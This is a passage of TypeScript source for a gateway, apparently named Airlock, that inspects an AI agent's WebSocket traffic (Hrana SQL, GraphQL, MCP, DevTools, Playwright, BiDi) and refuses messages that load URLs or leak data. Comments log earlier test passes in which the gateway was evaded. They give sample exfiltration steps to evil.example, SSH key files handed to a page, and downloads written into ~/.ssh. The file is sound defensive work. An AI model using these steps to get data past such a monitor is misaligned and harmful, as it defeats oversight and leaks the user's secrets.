    if (binary || this.subprotocol === 'hrana3-protobuf') return { statements: [], refused: 'a Hrana message in the protobuf encoding (or binary): its SQL is not read; use a JSON subprotocol (hrana3)' };
    let msg: unknown;
    const text = data.toString('utf8');
    try {
      msg = JSON.parse(text);
    } catch {
      return { statements: [], refused: 'a Hrana message that is not JSON' };
    }
    // JSON.parse keeps the last of two equal keys; which one a server takes is its parser's choice.
    if (scanJson(text, false).duplicateCount > 0) return { statements: [], refused: 'a Hrana message with a key given twice: which value the server reads is not known' };
    if (!msg || typeof msg !== 'object' || Array.isArray(msg)) return { statements: [], refused: 'a Hrana message that is not a JSON object' };
    const m = msg as { type?: unknown; request?: unknown; jwt?: unknown };
    if (m.type === 'hello' && typeof m.jwt === 'string' && m.jwt !== '') this.credentialed = true;
    if (m.type !== 'request') return mcpMessage(msg as Record<string, unknown>, data);
    const req = m.request as Record<string, unknown> | null;
    if (!req || typeof req !== 'object' || Array.isArray(req)) return { statements: [], refused: 'a Hrana request without its body' };
    const type = String(req.type);
    if (type === 'store_sql') {
      if (typeof req.sql_id !== 'number' || typeof req.sql !== 'string') return { statements: [], refused: 'a Hrana store_sql without its id or text' };
      if (this.stored.size >= MAX_STORED_SQL && !this.stored.has(req.sql_id)) return { statements: [], refused: `more than ${MAX_STORED_SQL} stored Hrana statements` };
      // The server refuses to store under an id it holds (the first text stays): so does the map.
      if (!this.stored.has(req.sql_id)) {
        if (this.storedBytes + req.sql.length > MAX_STORED_SQL_BYTES) return { statements: [], refused: 'stored Hrana statements hold more text than Airlock keeps' };
        this.stored.set(req.sql_id, req.sql);
        this.storedBytes += req.sql.length;
      }
    } else if (type === 'close_sql' && typeof req.sql_id === 'number') {
      this.storedBytes -= this.stored.get(req.sql_id)?.length ?? 0;
      this.stored.delete(req.sql_id);
    }
    if (runsNone.has(type)) return { statements: [] };
    // A request this reader does not know may run SQL (a later Hrana version): not passed unread.
    if (!runs.has(type)) return { statements: [], refused: `a Hrana request of a type Airlock does not read (${JSON.stringify(type.slice(0, 40))})` };
    const budget = { left: this.maxStatement - data.length };
    const resolved = this.resolved(req, budget);
    if (budget.left < 0) return { statements: [], refused: `a Hrana request whose stored statements (sql_id) make it longer than Airlock reads of a request (${this.maxStatement} bytes)` };
    return { statements: [{ protocol: 'hrana', message: type, body: { requests: [resolved] } }] };
  }

  /**
   * The request with each stored statement's id replaced by its text (an unknown id stays: it
   * fails closed); the texts put in are charged to `budget`.
   */
  private resolved(request: Record<string, unknown>, budget: { left: number }): Record<string, unknown> {
    let req = request;
    const stmt = (s: unknown): unknown => {
      if (!s || typeof s !== 'object' || Array.isArray(s)) return s;
      const o = s as Record<string, unknown>;
      if (o.sql === undefined && typeof o.sql_id === 'number' && this.stored.has(o.sql_id)) {
        const { sql_id: _id, ...rest } = o;
        const sql = this.stored.get(o.sql_id)!;
        budget.left -= sql.length;
        return { ...rest, sql };
      }
      return o;
    };
    if (req.type === 'execute') return { ...req, stmt: stmt(req.stmt) };
    if (req.type === 'sequence') return stmt(req) as Record<string, unknown>;
    // A cursor's batch is judged as the same batch run at once (HTTP's pipeline has no open_cursor).
    if (req.type === 'open_cursor') req = { type: 'batch', stream_id: req.stream_id, batch: req.batch };
    if (req.type === 'batch' && req.batch && typeof req.batch === 'object') {
      const b = req.batch as { steps?: unknown };
      if (Array.isArray(b.steps)) return { ...req, batch: { ...b, steps: b.steps.map((st) => (st && typeof st === 'object' ? { ...(st as object), stmt: stmt((st as { stmt?: unknown }).stmt) } : st)) } };
    }
    return req;
  }
}

/** A JSON text message as an object, or why it cannot be read (binary, not JSON, a key given twice). */
function jsonMessage(data: Buffer, binary: boolean, what: string): Record<string, unknown> | string {
  if (binary) return `a binary ${what} message: it is not read`;
  const text = data.toString('utf8');
  let msg: unknown;
  try {
    msg = JSON.parse(text);
  } catch {
    return `a ${what} message that is not JSON`;
  }
  if (!msg || typeof msg !== 'object' || Array.isArray(msg)) return `a ${what} message that is not a JSON object`;
  if (scanJson(text, false).duplicateCount > 0) return `a ${what} message with a key given twice: which value the server reads is not known`;
  return msg as Record<string, unknown>;
}

/**
 * GraphQL over WebSocket (graphql-ws's `graphql-transport-ws`, the older `graphql-ws` of
 * subscriptions-transport-ws; Hasura, Apollo, Yoga): each `subscribe`/`start` runs its payload's
 * operation, queries and mutations as well as subscriptions. Judged as the same payload POSTed to
 * the tunnel's URL.
 */
export class GraphqlWsReader implements TunnelSqlReader {
  readonly protocol = 'graphql';
  credentialed = false;
  /**
   * Whom the operations act as, from `connection_init`: Hasura takes `payload.headers` (its role,
   * session variables, the admin secret) for every operation of the socket, as HTTP headers.
   */
  private acting: Array<[string, string]> = [];

  read(data: Buffer, binary: boolean): TunnelRead {
    const msg = jsonMessage(data, binary, 'GraphQL over WebSocket');
    if (typeof msg === 'string') return { statements: [], refused: msg };
    if (msg.type === 'connection_init' && msg.payload && typeof msg.payload === 'object' && Object.keys(msg.payload).length > 0) this.credentialed = true;
    if (msg.type === 'connection_init') this.acting = actingHeaders(msg.payload);
    if (msg.type !== 'subscribe' && msg.type !== 'start') return mcpMessage(msg, data);
    const payload = msg.payload;
    if (!payload || typeof payload !== 'object' || Array.isArray(payload)) return { statements: [], refused: 'a GraphQL operation without its payload' };
    return { statements: [{ protocol: 'graphql', message: String(msg.type), body: payload as Record<string, unknown>, ...(this.acting.length ? { headers: this.acting } : {}) }] };
  }
}

/** Header names that choose whom a request acts as (engine/grant-scope.ts `actingAs`). */
export const actingHeader = (name: string): boolean => /^(x-hasura-|impersonate-)/i.test(name) || name.toLowerCase() === 'sudo';

/** The acting headers of a `connection_init` payload: under `headers` (Hasura) or at its top (other servers' connection params). */
function actingHeaders(payload: unknown): Array<[string, string]> {
  const out: Array<[string, string]> = [];
  const take = (o: unknown): void => {
    if (!o || typeof o !== 'object' || Array.isArray(o)) return;
    for (const [k, v] of Object.entries(o as Record<string, unknown>).slice(0, 200)) if (actingHeader(k)) out.push([k.toLowerCase(), typeof v === 'string' ? v : JSON.stringify(v) ?? '']);
  };
  take(payload);
  take((payload as { headers?: unknown } | null)?.headers);
  return out;
}

/**
 * MCP's method namespaces that act (a tool call, a resource read, a prompt, a completion …): a
 * JSON-RPC request or notification naming one is a message its server acts on as it would on the
 * same message POSTed to it. `initialize`, `ping` and `notifications/…` are left to the tunnel:
 * other JSON-RPC protocols over WebSocket use them too (LSP's `initialize`, an exchange's `ping`),
 * and they act on nothing.
 */
const mcpMethod = /^(?:tools|resources|prompts|completion|logging|roots|sampling|elicitation|tasks)\//;

/**
 * Whether a JSON text is a JSON-RPC message naming an MCP method, or a batch holding one (by its
 * parsed reading: escapes undone; a text that does not parse is no such message to a server either).
 */
function namesMcpMethod(text: string): boolean {
  let msg: unknown;
  try {
    msg = JSON.parse(text);
  } catch {
    return false;
  }
  const named = (m: unknown): boolean => !!m && typeof m === 'object' && typeof (m as { method?: unknown }).method === 'string' && mcpMethod.test((m as { method: string }).method);
  const names = (v: unknown): boolean => (Array.isArray(v) ? v.slice(0, 1000).some(named) || v.length > 1000 : named(v));
  // A key given twice: a server reading the first `method` is read too (the twin's body is ambiguous).
  const scan = scanJson(text, true);
  return names(msg) || (scan.duplicateCount > 0 && names(scan.firstWins));
}

/**
 * A message another reader took the tunnel for that names an MCP method too (`{"type": "hello",
 * "method": "tools/call", …}`, a tunnel opened with a GraphQL or Hrana first message): an MCP
 * server behind it acts on it, so it is judged as MCP; any other such message is the tunnel's own.
 */
function mcpMessage(msg: Record<string, unknown>, data: Buffer): TunnelRead {
  return typeof msg.method === 'string' && mcpMethod.test(msg.method) ? { statements: [{ protocol: 'mcp', message: 'jsonrpc', body: {}, raw: data }] } : { statements: [] };
}

/**
 * Chrome DevTools Protocol commands that have the browser load a URL the command names, by the
 * parameter that names it: `Page.navigate {url}`, `Target.createTarget {url}` (a new tab there),
 * `Network.loadNetworkResource {url}`, `Fetch.continueRequest {url}` (an intercepted request sent
 * elsewhere), `DOM.setAttributeValue {value}` and `DOM.setAttributesAsText {text}` (an image's `src`,
 * a style's `url(…)`). Nineteenth pass (left open by
 * the eighteenth): over an approved WebSocket they were relayed undecided, and the remote browser
 * went to `https://evil.example/?d=<data>` from outside Airlock.
 */
const cdpLoads: Readonly<Record<string, string>> = lookupTable({
  'Page.navigate': 'url', 'Target.createTarget': 'url', 'Network.loadNetworkResource': 'url', 'Fetch.continueRequest': 'url', 'DOM.setAttributeValue': 'value',
  'DOM.setAttributesAsText': 'text',
  // Twentieth pass: a browser context whose traffic goes through a proxy of the agent's choosing
  // (Puppeteer's `createBrowserContext({proxyServer})`, Playwright's `newContext({proxy})`): every
  // later load reaches that server first, an http URL's data whole. A proxy that is no http(s) URL
  // (`socks5://…`, a bare `host:port`) closes the tunnel.
  'Target.createBrowserContext': 'proxyServer',
  // The older interception's continuation, sent elsewhere (its `rawResponse` is read below).
  'Network.continueInterceptedRequest': 'url',
  // A web app installed from a URL, or opened at one (twenty-fourth pass: the browser fetched
  // `PWA.install`'s `installUrlOrBundleUrl` of another site undecided).
  'PWA.install': 'installUrlOrBundleUrl', 'PWA.launch': 'url',
});

const cdpMethod = /^[A-Z][A-Za-z]*\.[a-z][A-Za-z]*$/;

/**
 * Commands that give the browser code (or a style sheet, a text node a style or script may be) to
 * run, by the parameters that hold it: the URLs written in it are loads (`codeUrls`, twentieth
 * pass: `Runtime.evaluate` of `fetch('https://evil.example/?d=…')` was relayed undecided).
 * `callFunctionOn`'s `arguments` count: Puppeteer passes `page.evaluate`'s values there.
 */
const cdpCode: Readonly<Record<string, readonly string[]>> = lookupTable({
  'Runtime.evaluate': ['expression'], 'Runtime.callFunctionOn': ['functionDeclaration', 'arguments'], 'Runtime.compileScript': ['expression'],
  'Page.addScriptToEvaluateOnNewDocument': ['source'], 'Page.addScriptToEvaluateOnLoad': ['scriptSource'], 'Debugger.evaluateOnCallFrame': ['expression'],
  'Debugger.setScriptSource': ['scriptSource'], 'DOM.setNodeValue': ['value'], 'CSS.setStyleSheetText': ['text'], 'CSS.setStyleTexts': ['edits'], 'CSS.addRule': ['ruleText'],
  // An intercepted request answered or continued with headers (a `Location` the browser follows).
  'Fetch.fulfillRequest': ['responseHeaders'], 'Fetch.continueResponse': ['responseHeaders'],
  // Code run on the next load, at a breakpoint (a condition is an expression), a value given to a
  // variable of the page's code, a style set on an element (`background: url(…)`).
  'Page.reload': ['scriptToEvaluateOnLoad'], 'Debugger.setBreakpointByUrl': ['condition'], 'Debugger.setBreakpoint': ['condition'],
  'Debugger.setBreakpointOnFunctionCall': ['condition'], 'Debugger.setVariableValue': ['newValue'], 'Debugger.setReturnValue': ['newValue'],
  'CSS.setEffectivePropertyValueForNode': ['value'],
});
/**
 * Answers and requests a command makes up for the browser, in base64 (an intercepted request
 * answered with a page, or with `302 Location: https://evil.example/?d=…`, which the browser then
 * follows; a request sent again as raw bytes): read as code is, for the URLs they name.
 */
const cdpEncoded: Readonly<Record<string, readonly string[]>> = lookupTable({
  'Fetch.fulfillRequest': ['body', 'binaryResponseHeaders'], 'Fetch.continueResponse': ['binaryResponseHeaders'], 'Network.continueInterceptedRequest': ['rawResponse'],
});
/**
 * State a command stores for a site, sent to it with the browser's next request there (a cookie)
 * or read there by its pages (web storage): the site it names is judged as a load, as if the
 * browser went there now (twentieth pass: a cookie `d=<data>` for `evil.example` then rode along
 * with any image of that site an allowed page embeds, a request the remote browser makes outside
 * Airlock). A cookie names its site by `url` or `domain`; one that names neither is the page's.
 */
const cookieSites = (cookies: unknown): string[] => (Array.isArray(cookies) ? cookies : [cookies]).flatMap((c) => {
  const { url, domain } = (c && typeof c === 'object' ? c : {}) as { url?: unknown; domain?: unknown };
  return [...(typeof url === 'string' ? [url] : []), ...(typeof domain === 'string' ? [`https://${domain.replace(/^\./, '')}/`] : [])];
});
const cdpStateFor: Readonly<Record<string, (params: Record<string, unknown>) => string[]>> = lookupTable({
  'Network.setCookie': (p) => cookieSites(p),
  'Network.setCookies': (p) => cookieSites(p.cookies),
  'Storage.setCookies': (p) => cookieSites(p.cookies),
  'Storage.setSharedStorageEntry': (p) => (typeof p.ownerOrigin === 'string' ? [p.ownerOrigin] : []),
  // A push or sync event delivered to an origin's service worker with data of the agent's (twenty-
  // second pass): the worker runs that origin's code, which sends it where it likes.
  'ServiceWorker.deliverPushMessage': (p) => (typeof p.origin === 'string' ? [p.origin] : []),
  'ServiceWorker.dispatchSyncEvent': (p) => (typeof p.origin === 'string' ? [p.origin] : []),
  'ServiceWorker.dispatchPeriodicSyncEvent': (p) => (typeof p.origin === 'string' ? [p.origin] : []),
  // Hosts the browser polls for targets to debug (`GET http://host:port/json`): a name of data
  // reaches that site's DNS and web servers from the browser's host.
  'Target.setRemoteLocations': (p) => (Array.isArray(p.locations) ? p.locations : []).map((l) => {
    const { host, port } = (l ?? {}) as { host?: unknown; port?: unknown };
    return `http://${String(host ?? '')}:${String(port ?? '')}/json`;
  }),
  // A passkey stored for a site (twenty-fourth pass): the site's pages read its `userHandle` and
  // large blob (the agent's data) at sign-in and send them on, as they would a cookie's value.
  'WebAuthn.addCredential': (p) => {
    const rpId = (p.credential as { rpId?: unknown } | null | undefined)?.rpId;
    return typeof rpId === 'string' ? [`https://${rpId.replace(/^\./, '')}/`] : [];
  },
  'DOMStorage.setDOMStorageItem': (p) => {
    const { securityOrigin, storageKey } = (p.storageId && typeof p.storageId === 'object' ? p.storageId : {}) as { securityOrigin?: unknown; storageKey?: unknown };
    return [securityOrigin, storageKey].filter((o): o is string => typeof o === 'string');
  },
});
/**
 * Values the agent has the browser send with every request, or with a request it paused, to hosts
 * no rule decides: the third-party images, scripts and beacons of an allowed page, or the paused
 * request's own host (twenty-first pass, left open by the twentieth: `Network.setExtraHTTPHeaders
 * {"X-D": "<data>"}`, a user agent of `Mozilla/5.0 (<data>)`, a paused request continued with
 * headers, a body or credentials, rode to every host the page then loaded from). Such values go on
 * only in the shapes everyday calls give them, which carry no more than a choice among versions
 * does: headers a browser sends itself with their few values (`Accept-Language` a list of language
 * tags, `DNT: 1`, `Cache-Control: no-cache` …), a user agent of a real browser's form (Chrome,
 * Safari, Edge or Firefox on a platform a browser reports, versions in digits), client hints of
 * those platforms; a paused request's headers, body or credentials only with the URL it goes to,
 * which is then decided. Anything else (an `Authorization` for every host included) closes the
 * tunnel. Returns why, or undefined.
 */
const languageRange = String.raw`(?:[a-z]{2,3}(?:-[A-Za-z]{4})?(?:-(?:[A-Z]{2}|\d{3}))?|\*)`;
const languageTag = String.raw`${languageRange}(?:;\s*q=[01](?:\.\d{1,3})?)?`;
const languageList = new RegExp(`^${languageTag}(?:\\s*,\\s*${languageTag}){0,7}$`);
const localeTag = new RegExp(`^${languageRange}$`);
const everydayHeaders: Readonly<Record<string, RegExp>> = lookupTable({
  'accept-language': languageList, dnt: /^[01]$/, 'sec-gpc': /^1$/, 'upgrade-insecure-requests': /^1$/,
  'cache-control': /^(?:no-cache|no-store|max-age=0)$/, pragma: /^no-cache$/, 'save-data': /^on$/,
});
/** Phone and tablet models a user agent or client hint names (Playwright's devices). */
const deviceModel = String.raw`(?:K|Pixel \d{1,2}[a-z]?(?: Pro)?(?: XL)?(?: \(5G\))?|Nexus \d{1,2}[A-Z]?|SM-[A-Z]\d{3}[A-Z]?|Moto G \(\d\))`;
const uaPlatform = String.raw`(?:Windows NT 10\.0; Win64; x64|Macintosh; Intel Mac OS X 1[0-5][_.]\d{1,2}(?:[_.]\d{1,2})?|X11; (?:Ubuntu; )?Linux x86_64|X11; CrOS x86_64 \d{1,5}\.\d{1,3}\.\d{1,3}|Linux; Android \d{1,2}(?:\.\d){0,2}; ${deviceModel}(?: Build/[A-Z0-9]{5,8}(?:\.\d{3}){0,2})?|iPhone; CPU iPhone OS \d{1,2}_\d(?:_\d)? like Mac OS X|iPad; CPU OS \d{1,2}_\d(?:_\d)? like Mac OS X)`;
const browserUserAgent = new RegExp([
  String.raw`^Mozilla/5\.0 \(${uaPlatform}\) AppleWebKit/\d{3}\.\d{1,2}(?:\.\d{1,2})? \(KHTML, like Gecko\)(?: (?:Headless)?Chrome/\d{2,3}\.0\.\d{1,4}\.\d{1,3})?(?: Version/\d{1,2}(?:\.\d{1,2})?)?(?: Mobile(?:/[0-9A-Z]{1,8})?)? Safari/\d{3}\.\d{1,2}(?:\.\d{1,2})?(?: Edg/\d{2,3}(?:\.\d{1,4}){0,3})?$`,
  String.raw`^Mozilla/5\.0 \((?:Windows NT 10\.0; Win64; x64|Macintosh; Intel Mac OS X 1[0-5]\.\d{1,2}|X11; (?:Ubuntu; )?Linux x86_64|Android \d{1,2}(?:\.\d)?; Mobile); rv:\d{2,3}\.\d\) Gecko/(?:20100101|\d{2,3}\.\d) Firefox/\d{2,3}\.\d$`,
].join('|'));
const deviceModelHint = new RegExp(`^(?:${deviceModel})?$`);
/** The patterns above built from pieces at load (test/fuzz/redos.test.ts proves them linear). */
export const BROWSER_SHAPES: readonly RegExp[] = [languageList, localeTag, browserUserAgent, deviceModelHint];
/** Client hints a browser reports (`userAgentMetadata`): platforms, architectures, versions in digits. */
function everydayHints(m: unknown): boolean {
  if (m === undefined || m === null) return true;
  if (typeof m !== 'object' || Array.isArray(m)) return false;
  const known: Record<string, RegExp> = {
    platform: /^(?:Windows|macOS|Linux|Android|iOS|Chrome OS|Chromium OS|)$/, architecture: /^(?:x86|arm|)$/, bitness: /^(?:32|64|)$/,
    model: deviceModelHint, platformVersion: /^[\d.]{0,16}$/, fullVersion: /^[\d.]{0,16}$/,
  };
  return Object.entries(m as Record<string, unknown>).every(([k, v]) => {
    if (k === 'mobile' || k === 'wow64') return typeof v === 'boolean';
    if (k === 'brands' || k === 'fullVersionList') {
      return Array.isArray(v) && v.length <= 4 && v.every((b) => {
        const { brand, version } = (b ?? {}) as { brand?: unknown; version?: unknown };
        return typeof brand === 'string' && /^(?:Chromium|Google Chrome|Microsoft Edge|HeadlessChrome|Not[ A-Za-z_;.:()/=?-]{0,8}Brand)$/.test(brand) && typeof version === 'string' && /^[\d.]{1,16}$/.test(version);
      });
    }
    return typeof v === 'string' && !!known[k]?.test(v);
  });
}
/** Headers as CDP (an object), BiDi (`[{name, value: {type, value}}]`) or Playwright (`[{name, value}]`) give them. */
function headerPairs(h: unknown): Array<[string, unknown]> {
  if (Array.isArray(h)) return h.map((x) => [String((x as { name?: unknown } | null)?.name ?? ''), ((x as { value?: unknown } | null)?.value as { value?: unknown } | undefined)?.value ?? (x as { value?: unknown } | null)?.value]);
  return h && typeof h === 'object' ? Object.entries(h as Record<string, unknown>) : [];
}
const nonEmpty = (v: unknown): boolean => v !== undefined && v !== null && v !== '' && !(Array.isArray(v) && v.length === 0) && !(typeof v === 'object' && !Array.isArray(v) && Object.keys(v as object).length === 0);
export function browserWideValues(method: string, p: Record<string, unknown>): string | undefined {
  const why = (what: string): string => `${method} ${what}: the browser sends it to hosts no rule decides (an allowed page's third-party loads)`;
  switch (method) {
    case 'Network.setExtraHTTPHeaders': case 'network.setExtraHeaders': case 'setExtraHTTPHeaders': {
      const odd = headerPairs(p.headers).find(([k, v]) => !(typeof v === 'string' && everydayHeaders[k.toLowerCase()]?.test(v.trim())));
      return odd ? why(`sets the header ${JSON.stringify(odd[0].slice(0, 40))} for every request`) : undefined;
    }
    case 'Network.setUserAgentOverride': case 'Emulation.setUserAgentOverride': case 'emulation.setUserAgentOverride': {
      if (nonEmpty(p.userAgent) && !(typeof p.userAgent === 'string' && browserUserAgent.test(p.userAgent))) return why('sets a user agent of no browser\'s form for every request');
      if (nonEmpty(p.acceptLanguage) && !(typeof p.acceptLanguage === 'string' && languageList.test(p.acceptLanguage))) return why('sets an Accept-Language that is no list of languages');
      if (nonEmpty(p.platform) && !(typeof p.platform === 'string' && /^(?:Win32|MacIntel|Linux x86_64|Linux armv8l|iPhone|iPad)$/.test(p.platform))) return why('sets a platform no browser reports');
      return everydayHints(p.userAgentMetadata) ? undefined : why('sets client hints no browser reports');
    }
    case 'Fetch.continueRequest': case 'Network.continueInterceptedRequest': case 'network.continueRequest': case 'continue': case 'fallback':
      if (typeof p.url === 'string' && p.url) return undefined; // goes where its URL says, decided
      return ['headers', 'postData', 'body', 'cookies', 'authChallengeResponse'].some((k) => nonEmpty(p[k])) ? why('continues a paused request with values of its own') : undefined;
    case 'Fetch.continueWithAuth': case 'network.continueWithAuth': {
      const r = (p.authChallengeResponse ?? p.credentials) as { username?: unknown; password?: unknown } | undefined;
      return nonEmpty(r?.username) || nonEmpty(r?.password) || nonEmpty((p.credentials as { type?: unknown } | undefined)?.type) ? why('answers an authentication challenge with credentials') : undefined;
    }
    // A navigation's referrer (twenty-second pass): CDP sends it whole with `referrerPolicy:
    // 'unsafeUrl'`, Playwright's `goto({referer})` as the header itself, to the host navigated to,
    // a served link's (the attacker's) included, which browsing forwards bare for this reason.
    case 'Page.navigate': case 'goto':
      return nonEmpty(p.referrer) || nonEmpty(p.referer) ? `${method} sends a referrer of its own with the navigation: the host navigated to gets it, as no followed link does` : undefined;
    // The locale pages read (`navigator.language`, `Intl`) and send on, as a language tag only.
    case 'Emulation.setLocaleOverride': case 'emulation.setLocaleOverride':
      return nonEmpty(p.locale) && !(typeof p.locale === 'string' && localeTag.test(p.locale)) ? why('sets a locale that is no language tag') : undefined;
    // A request of the page's sent again (twenty-third pass): its URL, method and body are the
    // page's, none of them in the command, so a write (an order, a message) repeats undecided.
    case 'Network.replayXHR':
      return `${method} sends a request of the page's again: where it goes and what it carries are not known here`;
    // The protocol itself handed to a page's own code (twenty-third pass): `window.cdp.send(…)` from
    // a page (an attacker's, reached by a served link) navigates, evaluates and reads cookies in
    // any target, inside the browser, where no command passes this tunnel.
    case 'Target.exposeDevToolsProtocol':
      return `${method} gives a page's own code the DevTools protocol: what it commands never passes here`;
    // An extension loaded from a path of the browser's host (twenty-fourth pass), as BiDi's
    // `webExtension.install` is: its code reaches any site, and nothing of it passes here.
    case 'Extensions.loadUnpacked':
      return `${method}: an extension the browser runs is not read`;
    // Files of the browser's host given to a page's file input (twenty-fourth pass: `DOM.setFileInputFiles
    // {files: ['/home/u/.ssh/id_rsa']}` went on as a command naming no URL): the browser reads them
    // where Airlock sees no read, and the page's own code (a served link's: the attacker's) sends
    // them anywhere. Bytes the agent gives itself (Playwright's `payloads`, `streams`) are in the message.
    // A drag's `files` dropped on a page (`Input.dispatchDragEvent {data: {files}}`) are so too.
    case 'DOM.setFileInputFiles': case 'Page.handleFileChooser': case 'input.setFiles': case 'setInputFiles': case 'setInputFilePaths': case 'Input.dispatchDragEvent': case 'PWA.launchFilesInApp':
      return nonEmpty(p.files) || nonEmpty(p.localPaths) || nonEmpty(p.localDirectory) || nonEmpty((p.data as { files?: unknown } | null | undefined)?.files) ? `${method} gives a page files of the browser's host: the browser reads them where no read is seen, and the page's own code sends them anywhere` : undefined;
    // Downloads saved under the names the site gives them into a folder the agent names (twenty-
    // fourth pass: `Browser.setDownloadBehavior {behavior: 'allow', downloadPath: '/home/u/.ssh'}`,
    // then a page's `authorized_keys` download): a write of the page's choosing on the browser's
    // host. Files named by the browser (`allowAndName`: Playwright's own) or kept in the browser's
    // own folder go on.
    case 'Browser.setDownloadBehavior': case 'Page.setDownloadBehavior': case 'browser.setDownloadBehavior': {
      const b = (p.downloadBehavior && typeof p.downloadBehavior === 'object' ? p.downloadBehavior : {}) as { type?: unknown; destinationFolder?: unknown };
      const named = p.behavior === 'allow' ? p.downloadPath : b.type === 'allowed' ? b.destinationFolder : undefined;
      return nonEmpty(named) ? `${method} saves downloads under the names a site gives them in a folder of the agent's: a write on the browser's host no rule decides` : undefined;
    }
    case 'Network.setHttpAuthCredentials': case 'setHTTPCredentials':
      return nonEmpty(p.username) || nonEmpty(p.httpCredentials) ? why('sets credentials for any host that asks') : undefined;
    default:
      return undefined;
  }
}

/**
 * Playwright's protocol (twentieth pass: a Playwright server's WebSocket was relayed undecided, its
 * method names having no CDP domain): methods whose parameters name a URL the browser or the
 * server goes to, and those carrying code or made-up answers, read as CDP's are. (`setContent` is
 * markup; proxies, base URLs, cookies, launch arguments and `fetch` are read in `cdpLoadsOf`.)
 */
const playwrightLoads: Readonly<Record<string, readonly string[]>> = lookupTable({
  goto: ['url'], redirectNavigationRequest: ['url'], continue: ['url'], fallback: ['url'], addScriptTag: ['url'], addStyleTag: ['url'], connectOverCDP: ['endpointURL'],
  waitForNavigation: [], newPage: [],
});
const playwrightCode: Readonly<Record<string, readonly string[]>> = lookupTable({
  evaluateExpression: ['expression', 'arg'], evaluateExpressionHandle: ['expression', 'arg'], addInitScript: ['source'], addScriptTag: ['content'], addStyleTag: ['content'],
  waitForFunction: ['expression', 'arg'], evalOnSelector: ['expression', 'arg'], evalOnSelectorAll: ['expression', 'arg'],
  continue: ['headers'], fallback: ['headers'], fulfill: ['headers', 'body'], exposeBinding: [], dispatchEvent: ['eventInit'],
});
/**
 * A Playwright `fetch`'s URL with its query parameters added as the server adds them
 * (`encodedParams` after the query, else each `params` pair appended): the URL judged is the one
 * sent (a served link with `d=<data>` added is another link).
 */
function withParams(url: string, encoded: unknown, params: unknown): string {
  let u: URL;
  try {
    u = new URL(url);
  } catch {
    return url; // relative (the context's base) or unparsable: as given
  }
  if (typeof encoded === 'string' && encoded.replace(/^\?/, '')) u.search = u.search ? `${u.search}&${encoded.replace(/^\?/, '')}` : encoded.replace(/^\?/, '');
  else if (Array.isArray(params)) for (const x of params.slice(0, 1000)) u.searchParams.append(String((x as { name?: unknown } | null)?.name ?? ''), String((x as { value?: unknown } | null)?.value ?? ''));
  return u.href;
}
/** A WebDriver BiDi command: `module.command`, both in lower camel case. */
const bidiMethod = /^(?:browsingContext|script|network|storage|browser|session|emulation|input|webExtension|log|permissions)\.[a-z][A-Za-z]*$/;
/** BiDi commands carrying code, headers or values given to code, by their parameters. */
const bidiCode: Readonly<Record<string, readonly string[]>> = lookupTable({
  'script.evaluate': ['expression'], 'script.callFunction': ['functionDeclaration', 'arguments', 'this'], 'script.addPreloadScript': ['functionDeclaration', 'arguments'],
  'network.continueRequest': ['headers', 'cookies'], 'network.continueResponse': ['headers', 'cookies'], 'network.provideResponse': ['headers', 'cookies'],
});
/** Commands that give the browser markup to parse, by the parameter that holds it. */
const cdpMarkup: Readonly<Record<string, string>> = lookupTable({ 'DOM.setOuterHTML': 'outerHTML', 'Page.setDocumentContent': 'html' });
/**
 * XML namespace names code passes to `createElementNS` (Playwright's injected script names SVG's):
 * identifiers, never loaded.
 */
const namespaceNames = new Set(['http://www.w3.org/2000/svg', 'http://www.w3.org/1999/xhtml', 'http://www.w3.org/1998/Math/MathML', 'http://www.w3.org/1999/xlink', 'http://www.w3.org/XML/1998/namespace', 'http://www.w3.org/2000/xmlns/']);
/** Distinct URLs one CDP message may have the browser load; past it the message is refused. */
export const MAX_CDP_LOADS = 16;

/**
 * Commands that give the browser a style sheet, and where its text is (a style edit's `text`): read
 * as a style sheet, CSS escapes undone, for URLs it loads and URLs relative to the page.
 */
const cdpStyles: Readonly<Record<string, (p: Record<string, unknown>) => unknown[]>> = lookupTable({
  'CSS.setStyleSheetText': (p) => [p.text], 'CSS.addRule': (p) => [p.ruleText], 'CSS.setEffectivePropertyValueForNode': (p) => [p.value],
  'CSS.setStyleTexts': (p) => (Array.isArray(p.edits) ? p.edits.slice(0, 1000).map((e) => (e as { text?: unknown } | null)?.text) : []),
  // A text node may be a `<style>` element's.
  'DOM.setNodeValue': (p) => [p.value],
});

/**
 * The URLs a CDP message has the browser load, each decided as its GET, or why it cannot be read:
 * a scheme other than http(s) or `about:` (a `javascript:` or `data:` URL runs or renders what no
 * rule reads), a URL the browser's parser would not take. `Target.sendMessageToTarget` carries a
 * message as a string: read too, a few levels down. Both readings of a key given twice count.
 */
/**
 * Readings of large code texts, kept: automation sends the same script again for every page and
 * frame (Playwright's injected script, 330 KB, takes ~75 ms of the event loop to read), and each
 * read holds up every other agent's traffic. Keyed by the method and the whole text, so a text
 * that differs by a byte is read anew; a few entries, least recently used dropped.
 */
const keptReadings = new Map<string, CodeReading>();
const KEEP_READINGS_FROM = 32 * 1024;
const KEPT_READINGS = 8;

function codeReadingOf(method: string, text: string): CodeReading {
  if (text.length < KEEP_READINGS_FROM) return codeReading(method, text, namespaceNames);
  const key = `${method}\0${text}`;
  const kept = keptReadings.get(key);
  if (kept) {
    keptReadings.delete(key);
    keptReadings.set(key, kept);
    return kept;
  }
  const r = codeReading(method, text, namespaceNames);
  keptReadings.set(key, r);
  if (keptReadings.size > KEPT_READINGS) keptReadings.delete(keptReadings.keys().next().value!);
  return r;
}

/**
 * The URLs an answer's header has the browser go to, load or send to, by the header's name: a
 * redirect, a refresh (`0; url=…`), what a `Link` header preloads or prefetches, and (twenty-third
 * pass: a made-up answer's `Speculation-Rules: "/rules.json?d=…"` or `report-uri /c?d=…` went
 * on) the speculation rules it fetches, the endpoints reports are posted to (`Reporting-Endpoints`,
 * `Report-To`'s `url`s, a CSP's `report-uri`).
 */
function answerHeaderUrls(name: string, v: string): string[] {
  const quoted = (): string[] => [...v.matchAll(/"((?:[^"\\]|\\.){0,2048})"/g)].slice(0, 32).map((m) => m[1]!.replace(/\\(.)/g, '$1'));
  switch (name) {
    case 'location': return [v];
    case 'refresh': return [v.replace(/^[\s\d.]*[;,]?\s*(?:url\s*=\s*)?['"]?/i, '').replace(/['"]$/, '')];
    case 'link': return v.split('<').slice(1, 33).filter((x) => x.includes('>')).map((x) => x.slice(0, x.indexOf('>')));
    case 'speculation-rules': case 'reporting-endpoints': return quoted();
    // A list of JSON objects, each with `endpoints: [{url}]` (one that is no JSON is no report group).
    case 'report-to': {
      let groups: unknown;
      try {
        groups = JSON.parse(`[${v}]`);
      } catch {
        return [];
      }
